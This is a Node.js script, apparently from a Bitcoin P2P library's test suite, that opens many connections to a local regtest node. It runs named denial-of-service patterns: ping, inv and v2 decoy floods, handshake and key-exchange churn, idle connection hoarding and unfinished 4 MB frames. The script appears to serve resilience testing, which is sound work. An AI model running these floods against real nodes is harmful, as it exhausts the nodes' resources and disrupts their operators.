/** The attacker: `node attacker.mjs ATTACK PEERS PORT`. Prints a line once its connections are established. */
import { Buffer } from 'node:buffer';
import { connect } from 'node:net';
import process from 'node:process';
import { setTimeout } from 'node:timers';
import { NETWORKS } from '../../dist/src/index.js';
import { createPacketEncoder, createV2Key, encodeFrame, encodeMessage } from '../../dist/src/wire/index.js';

const [, , attack, count, port] = process.argv;
const { magic } = NETWORKS.regtest;
const peers = Number(count);
const at = { host: '127.0.0.1', port: Number(port) };
const PING = { command: 'ping', nonce: '0000000000000001' };

/** Writes the bytes without end, and reads what comes. */
function pour(socket, bytes) {
  socket.on('data', () => undefined);
  socket.on('error', () => undefined);
  const more = () => {
    while (socket.writable && socket.write(bytes));
  };
  socket.on('drain', more);
  more();
}

const random = (size) => globalThis.crypto.getRandomValues(new Uint8Array(size));

const repeated = (frame, times) => Buffer.concat(Array(times).fill(Buffer.from(frame)));

function versionFrame() {
  const address = { services: '0000000000000000', ip: new Uint8Array(16), port: 0 };
  const payload = encodeMessage({
    ...{ command: 'version', version: 70016, services: address.services, timestamp: '0000000065000000' },
    ...{ addr_recv: address, addr_from: address, nonce: '00000000000000aa', start_height: 0, relay: false },
    user_agent: new Uint8Array(),
  });
  return encodeFrame(magic, 'version', payload);
}

/** A v1 connection with its handshake done. */
const v1 = () =>
  new Promise((resolve) => {
    const socket = connect(at);
    socket.on('error', () => resolve(undefined));
    socket.write(versionFrame());
    socket.write(encodeFrame(magic, 'verack', new Uint8Array()));
    socket.once('data', () => resolve(socket));
  });

/** Each sends that frame without end. */
async function flood(frame) {
  const many = repeated(frame, 2_000);
  const sockets = await Promise.all(Array.from({ length: peers }, v1));
  for (const socket of sockets) if (socket) pour(socket, many);
}

const pings = () => flood(encodeFrame(magic, 'ping', encodeMessage(PING)));

/** Established, and silent. */
const idle = () => Promise.all(Array.from({ length: peers }, v1));

/** Valid messages that announce one block each. */
function invs() {
  const inventory = [{ type: 2, hash: new Uint8Array(32).fill(7) }];
  return flood(encodeFrame(magic, 'inv', encodeMessage({ command: 'inv', inventory })));
}

/** Key exchanges without end: each connection sends a key, waits for ours, and is replaced. */
function exchanges() {
  const key = createV2Key(random).ellswift;
  const next = () => {
    const socket = connect(at);
    socket.on('error', () => undefined);
    socket.on('close', () => setTimeout(next, 1));
    socket.once('data', () => socket.resetAndDestroy());
    socket.write(key);
  };
  for (let n = 0; n < peers; n += 1) next();
  return new Promise((resolve) => setTimeout(resolve, 500));
}

/** Handshakes without end, one after the other on each of so many connections. */
function visits() {
  const bytes = [versionFrame(), encodeFrame(magic, 'verack', new Uint8Array())];
  const next = () => {
    const socket = connect(at);
    let size = 0;
    socket.on('error', () => undefined);
    socket.on('close', () => setTimeout(next, 1));
    // Their version and verack.
    socket.on('data', (chunk) => (size += chunk.length) > 150 && socket.end());
    socket.write(Buffer.concat(bytes));
  };
  for (let n = 0; n < peers; n += 1) next();
  return new Promise((resolve) => setTimeout(resolve, 500));
}

/** Each holds all of a frame but its last byte; half of them before `version`. */
async function unfinished() {
  const frame = encodeFrame(magic, 'block', new Uint8Array(4_000_000)).subarray(0, -1);
  for (let n = 0; n < peers; n += 1) {
    const socket = n % 2 === 0 ? await v1() : connect(at);
    socket?.on('error', () => undefined);
    socket?.on('data', () => undefined);
    socket?.write(frame);
  }
}

/** One v2 connection: what comes behind the other side's key is not read. */
function v2(next) {
  const socket = connect(at);
  const key = createV2Key(random);
  let first = Buffer.alloc(0);
  socket.on('error', () => undefined);
  socket.write(key.ellswift);
  socket.on('data', (chunk) => {
    if (first.length >= 64) return;
    first = Buffer.concat([first, chunk]);
    if (first.length < 64) return;
    const keys = key.agree(Uint8Array.from(first.subarray(0, 64)), true, magic);
    const encoder = createPacketEncoder(keys.send, new Uint8Array());
    const version = encoder.message('version', versionFrame().subarray(24));
    const parts = [encoder.terminator, encoder.version(new Uint8Array()), version];
    socket.write(Buffer.concat([...parts, encoder.message('verack', new Uint8Array())]));
    next(socket, encoder);
  });
}

/** Packets are encrypted as they are sent: each has its own key stream. */
const overV2 = (packet) =>
  new Promise((resolve) => {
    let ready = 0;
    for (let n = 0; n < peers; n += 1)
      v2((socket, encoder) => {
        const more = () => {
          while (socket.writable && socket.write(repeatedly(() => packet(encoder))));
        };
        socket.on('drain', more);
        setTimeout(more, 500);
        if ((ready += 1) === peers) resolve();
      });
  });

const repeatedly = (make) => Buffer.concat(Array.from({ length: 500 }, make));

const ATTACKS = {
  decoys: () => overV2((encoder) => encoder.decoy(0)),
  'pings-v2': () => overV2((encoder) => encoder.message('ping', encodeMessage(PING))),
  'pings-v1': pings,
  'invs-v1': invs,
  idle,
  exchanges,
  visits,
  unfinished,
};

await ATTACKS[attack]();
console.log('attacking');
